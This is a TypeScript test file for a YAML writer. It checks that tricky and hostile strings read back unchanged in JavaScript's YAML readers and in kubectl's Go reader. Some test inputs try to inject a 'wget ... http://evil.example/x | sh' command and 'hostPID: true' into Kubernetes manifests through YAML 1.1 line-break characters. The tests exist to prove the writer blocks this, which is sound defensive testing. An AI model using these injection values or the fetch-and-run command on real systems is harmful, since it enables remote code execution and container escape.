import { parse } from "yaml";
import { describe, expect, it } from "vitest";
import { readLikeKubectl } from "../../test/helpers/go-yaml.js";
import { isBlockable, isPlainSafe, quoteYaml, writeYaml } from "./yaml-writer.js";

const TRICKY = [
  "",
  " lead",
  "trail ",
  "on",
  "Off",
  "YES",
  "y",
  "n",
  "~",
  "null",
  "=",
  "<<",
  "8080",
  "0755",
  "0x1F",
  "1e3",
  ".5",
  "-1",
  "+1",
  ".inf",
  "1:20",
  "2024-01-02",
  "a: b",
  "a #b",
  "#c",
  "- x",
  "-Xms512m -Xmx512m",
  "key:",
  "@at",
  "`tick",
  "*star",
  "&amp",
  "!tag",
  "|pipe",
  ">fold",
  "%pct",
  "'single'",
  '"double"',
  "[a]",
  "{a}",
  "a,b",
  "tab\there",
  "new\nline",
  "two\n\nlines\n",
  "trailing\n\n",
  "no-trailing\nnewline",
  "  indented\nfirst",
  "unicode ✓ ü",
  "control \u0001",
  "postgresql://$(U):$(P)@h.ns.svc:5432/db?x=y&z=1",
  "sh -c 'echo ruok | nc -w 2 127.0.0.1 2181 | grep -q imok'",
  "PLAINTEXT://${POD_NAME}.kafka-headless.ns.svc:9092",
  "export KAFKA_NODE_ID=${POD_NAME##*-}; exec run",
  "/health",
  "nginx.ingress.kubernetes.io/backend-protocol",
  "500m",
  "1Gi",
  "1.0.0",
  "v1.2",
  "0.05",
];

/** Characters YAML 1.1 readers (go-yaml, libyaml, PyYAML) treat differently from JavaScript's readers. */
const LINE_BREAKS_11 = ["\u0085", "\u2028", "\u2029"];
const INJECTIONS = [
  ...LINE_BREAKS_11.map(
    (lb) => `a\nb${lb}          command: [sh, -c, "wget -qO- http://evil.example/x | sh"]`,
  ),
  ...LINE_BREAKS_11.map((lb) => `one line${lb}hostPID: true`),
  ...LINE_BREAKS_11,
  "del \u007f c1 \u0080 \u009f",
  "bom \ufeff inside",
  "non-chars \ufffe \uffff",
  "emoji 🚀 and 𝄞",
  "tab\tand\nnewline\n",
  "cr\r\nlf\n",
  "trailing space \nline",
  "nul \u0000 bell \u0007 esc \u001b",
  "---\nkind: Secret",
  "...\n---",
  "{{ .Values.x }}",
];

describe("writeYaml", () => {
  it("reads back every tricky string exactly, as YAML 1.2 and as YAML 1.1", () => {
    const data = {
      strings: TRICKY,
      keys: Object.fromEntries(TRICKY.filter((s) => s !== "").map((s, i) => [s, i])),
    };
    const text = writeYaml(data);
    expect(parse(text)).toEqual(data);
    expect(parse(text, { version: "1.1" })).toEqual(data);
  });

  it("reads back every tricky and hostile string the same in kubectl's Go reader (YAML 1.1)", () => {
    const strings = [...TRICKY, ...INJECTIONS];
    const data = {
      kind: "ConfigMap",
      data: Object.fromEntries(strings.map((s, i) => [`k${i}`, s])),
      keys: Object.fromEntries(strings.filter((s) => s !== "").map((s, i) => [s, i])),
      nested: { list: strings.map((s) => ({ value: s, deeper: [s] })) },
    };
    const text = writeYaml(data);
    expect(parse(text)).toEqual(data);
    const [go] = readLikeKubectl([text]);
    expect(go).toEqual({ docs: [data] });
    // Each string alone too, so that one cannot hide another's difference.
    const each = readLikeKubectl(strings.map((s) => writeYaml({ v: s, l: [s] })));
    each.forEach((r, i) => {
      expect(r, JSON.stringify(strings[i])).toEqual({ docs: [{ v: strings[i], l: [strings[i]] }] });
    });
  });

  it("never writes a literal block holding a character that YAML 1.1 reads as a line break", () => {
    for (const lb of LINE_BREAKS_11) {
      expect(isBlockable(`a\nb${lb}c`)).toBe(false);
      expect(quoteYaml(`x${lb}`)).toBe(`"x\\u${lb.charCodeAt(0).toString(16).padStart(4, "0")}"`);
    }
    expect(writeYaml({ v: "a\nb\u2028  c: 1" })).toBe('v: "a\\nb\\u2028  c: 1"\n');
  });

  it("writes a lone surrogate as an escape that Go refuses instead of reading other data", () => {
    const [go] = readLikeKubectl([writeYaml({ v: "x\ud800y" })]);
    expect(go).toHaveProperty("error");
  });

  it("writes nested maps and sequences in block style", () => {
    const text = writeYaml({ a: { b: [1, { c: "d", e: [] }, [true, null]] }, f: {} });
    expect(text).toBe("a:\n  b:\n    - 1\n    - c: d\n      e: []\n    - - true\n      - null\nf: {}\n");
  });

  it("keeps multi-line text readable as a literal block", () => {
    expect(writeYaml({ json: '{\n  "a": 1\n}\n' })).toBe('json: |\n  {\n    "a": 1\n  }\n');
  });

  it("quotes what YAML 1.1 readers would turn into booleans, numbers or null", () => {
    for (const s of ["on", "yes", "8080", "null", "1:20", "2024-01-02"]) expect(isPlainSafe(s)).toBe(false);
    for (const s of ["demo-app", "500m", "1.0.0", "/health", "app.kubernetes.io/name"])
      expect(isPlainSafe(s)).toBe(true);
  });

  it("refuses values YAML cannot hold", () => {
    expect(() => writeYaml({ x: Number.NaN })).toThrow(/NaN/);
    expect(() => writeYaml({ x: () => 1 })).toThrow(/function/);
  });
});
